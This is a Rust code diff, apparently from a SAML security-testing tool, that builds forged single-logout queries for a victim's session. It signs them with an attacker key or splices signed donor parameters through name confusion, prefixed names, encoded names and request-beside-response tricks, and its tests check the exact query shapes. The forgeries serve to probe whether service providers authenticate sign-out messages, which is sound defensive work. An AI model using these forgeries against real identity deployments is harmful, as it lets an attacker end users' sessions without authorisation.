@@ -1,34 +1,65 @@
-//! `slo/`: the IdP's LogoutRequest for a signed-in session, forged so that only an SP that
-//! authenticates sign-out messages refuses it.
+//! Sign-out messages for a signed-in session, forged: the IdP's LogoutRequest for the victim
+//! sent so that only an SP that authenticates it, and reads the query as the binding says,
+//! refuses it (the `slo/` checks and the Redirect-binding `bind/redirect/` ones).
 
-use openssl::hash::MessageDigest;
-use openssl::sign::Signer;
-
-use crate::check::LogoutForgery;
+use crate::check::{LogoutDonors, LogoutForgery};
 use crate::forge::Skip;
 
-/// `SigAlg` of the attacker's query signature (RSA-SHA256, what Entra uses).
-const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
+/// The raw `name=value` pairs of `query` whose name is one of `names`, in query order.
+fn pairs<'q>(query: &'q str, names: &[&str]) -> Vec<&'q str> {
+    query
+        .split('&')
+        .filter(|p| names.contains(&p.split('=').next().unwrap_or_default()))
+        .collect()
+}
 
-/// The Redirect-binding query carrying `xml` (the IdP's LogoutRequest), forged as `forgery`.
-pub fn redirect_query(forgery: LogoutForgery, xml: &str) -> Result<String, Skip> {
-    let pair = |k: &str, v: &str| {
-        let encoded: String = form_urlencoded::byte_serialize(v.as_bytes()).collect();
-        format!("{k}={encoded}")
-    };
-    let request = pair("SAMLRequest", &saml_protocol::deflate_base64(xml));
+/// The Redirect-binding query carrying `xml` (the IdP's LogoutRequest for the victim), forged
+/// as `forgery`, with the attacker's `donors` where it splices signed ones.
+pub fn redirect_query(
+    forgery: LogoutForgery,
+    xml: &str,
+    donors: LogoutDonors,
+) -> Result<String, Skip> {
+    let unsigned = saml_protocol::redirect::unsigned_query("SAMLRequest", xml, None);
+    let forged = unsigned.trim_start_matches("SAMLRequest=");
+    let signed_request = || pairs(donors.request, &["SAMLRequest", "SigAlg", "Signature"]);
+    let missing = || Skip::Failed("the IdP's signed donor query lacks a parameter".into());
+    let join = |parts: Vec<String>| parts.join("&");
     match forgery {
-        LogoutForgery::Unsigned => Ok(request),
+        LogoutForgery::Unsigned => Ok(unsigned),
         LogoutForgery::UntrustedKey => {
-            let signed = format!("{request}&{}", pair("SigAlg", RSA_SHA256));
             let key = crate::crypto::attacker_key()?;
-            let failed = |e: openssl::error::ErrorStack| Skip::Failed(e.to_string());
-            let mut signer = Signer::new(MessageDigest::sha256(), key).map_err(failed)?;
-            signer.update(signed.as_bytes()).map_err(failed)?;
-            let signature = signer.sign_to_vec().map_err(failed)?;
-            use base64::Engine as _;
-            let signature = base64::engine::general_purpose::STANDARD.encode(signature);
-            Ok(format!("{signed}&{}", pair("Signature", &signature)))
+            saml_protocol::redirect::signed_query(&unsigned, donors.sig_alg, key)
+                .map_err(Skip::Failed)
+        }
+        LogoutForgery::ResponseNameConfusion => {
+            let mut parts = vec![format!("SAMLResponse={forged}")];
+            parts.extend(signed_request().into_iter().map(str::to_owned));
+            Ok(join(parts))
+        }
+        LogoutForgery::PrefixedParameter => {
+            let signed = signed_request();
+            let (first, rest) = signed.split_first().ok_or_else(missing)?;
+            let mut parts = vec![format!("x{first}"), format!("SAMLRequest={forged}")];
+            parts.extend(rest.iter().map(|p| (*p).to_owned()));
+            Ok(join(parts))
+        }
+        LogoutForgery::EncodedName => {
+            let mut parts = vec![format!("SAML%52equest={forged}")];
+            parts.extend(signed_request().into_iter().map(str::to_owned));
+            Ok(join(parts))
+        }
+        LogoutForgery::RequestBesideResponse => {
+            let mut parts = vec![format!("SAMLRequest={forged}")];
+            let signed = pairs(
+                donors.response,
+                &["SAMLResponse", "RelayState", "SigAlg", "Signature"],
+            );
+            if signed.len() < 3 {
+                return Err(missing());
+            }
+            parts.extend(signed.into_iter().map(str::to_owned));
+            Ok(join(parts))
         }
     }
 }
@@ -37,22 +68,54 @@ pub fn redirect_query(forgery: LogoutForgery, xml: &str) -> Result<String, Skip>
 mod tests {
     use super::*;
 
+    const XML: &str = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>";
+    const DONORS: LogoutDonors = LogoutDonors {
+        request: "SAMLRequest=C&SigAlg=A&Signature=S",
+        response: "SAMLResponse=R&SigAlg=A&Signature=T",
+        sig_alg: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
+    };
+
+    fn query(forgery: LogoutForgery) -> String {
+        redirect_query(forgery, XML, DONORS).unwrap()
+    }
+
     #[test]
     fn the_unsigned_query_has_no_signature_and_the_other_one_does() {
-        let xml = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>";
-        let unsigned = redirect_query(LogoutForgery::Unsigned, xml).unwrap();
+        let unsigned = query(LogoutForgery::Unsigned);
         assert!(unsigned.starts_with("SAMLRequest=") && !unsigned.contains("Signature"));
-        let decoded: Vec<(String, String)> = form_urlencoded::parse(unsigned.as_bytes())
-            .into_owned()
-            .collect();
+        let message = saml_protocol::redirect::read(&unsigned).unwrap();
         use base64::Engine as _;
         let deflated = base64::engine::general_purpose::STANDARD
-            .decode(&decoded[0].1)
+            .decode(&message.value)
             .unwrap();
         let inflated = saml_protocol::inflate_bounded(&deflated, 1 << 16).unwrap();
-        assert_eq!(inflated, xml.as_bytes(), "the IdP's XML, unchanged");
-        let signed = redirect_query(LogoutForgery::UntrustedKey, xml).unwrap();
+        assert_eq!(inflated, XML.as_bytes(), "the IdP's XML, unchanged");
+        let signed = query(LogoutForgery::UntrustedKey);
         assert!(signed.starts_with(&unsigned), "{signed}");
-        assert!(signed.contains("&SigAlg=") && signed.contains("&Signature="));
+        assert!(
+            signed.contains("&SigAlg=http%3a%2f%2fwww.w3.org") && signed.contains("&Signature=")
+        );
+    }
+
+    #[test]
+    fn the_spliced_queries_have_the_published_shapes() {
+        let forged = query(LogoutForgery::Unsigned);
+        let f = forged.trim_start_matches("SAMLRequest=");
+        assert_eq!(
+            query(LogoutForgery::ResponseNameConfusion),
+            format!("SAMLResponse={f}&SAMLRequest=C&SigAlg=A&Signature=S")
+        );
+        assert_eq!(
+            query(LogoutForgery::PrefixedParameter),
+            format!("xSAMLRequest=C&SAMLRequest={f}&SigAlg=A&Signature=S")
+        );
+        assert_eq!(
+            query(LogoutForgery::EncodedName),
+            format!("SAML%52equest={f}&SAMLRequest=C&SigAlg=A&Signature=S")
+        );
+        assert_eq!(
+            query(LogoutForgery::RequestBesideResponse),
+            format!("SAMLRequest={f}&SAMLResponse=R&SigAlg=A&Signature=T")
+        );
     }
 }
